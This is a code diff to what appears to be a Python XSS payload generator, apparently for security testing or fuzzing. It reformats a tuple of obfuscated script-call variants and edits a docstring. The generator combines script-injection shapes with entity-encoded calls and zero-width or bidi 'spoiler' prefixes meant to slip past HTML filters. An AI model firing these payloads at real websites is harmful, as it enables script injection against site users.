@@ -3,7 +3,16 @@
 from collections.abc import Iterator
 from itertools import count, product
 
-CALLS = ("xss()", "xss`1`", "window['xss']()", "top.xss&#40;&#41;", "self[`xss`]()", "(0,xss)()", "eval('xss()')", "xss&lpar;&rpar;")
+CALLS = (
+    "xss()",
+    "xss`1`",
+    "window['xss']()",
+    "top.xss&#40;&#41;",
+    "self[`xss`]()",
+    "(0,xss)()",
+    "eval('xss()')",
+    "xss&lpar;&rpar;",
+)
 SHAPES = (
     "<script>{}</script>",
     "\"><script>{}</script>",
@@ -61,7 +70,7 @@ SPOILERS = ("", "\u2028", "\u200b", " \t", "<!-->", "\u202e")
 
 
 def payloads() -> Iterator[str]:
-    """Every shape with every call, the plainest first, then between what confuses readers of HTML; each is unlike all others."""
+    """Every shape with every call, the plainest first; each is unlike all others."""
     numbers = count(1)
     for spoiler, call, shape in product(SPOILERS, CALLS, SHAPES):
         yield f"{spoiler}{shape.format(call, call)}p{next(numbers)}q"
